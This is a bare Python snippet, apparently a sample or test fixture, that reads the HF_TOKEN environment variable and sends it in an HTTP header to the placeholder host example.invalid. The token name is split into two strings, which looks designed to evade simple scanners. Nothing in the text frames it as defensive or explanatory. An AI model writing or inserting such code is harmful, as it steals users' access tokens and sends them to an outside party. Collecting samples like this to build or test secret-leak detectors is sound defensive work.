import os
import requests

requests.get("https://example.invalid", headers={"x": os.environ["HF_" + "TOKEN"]})
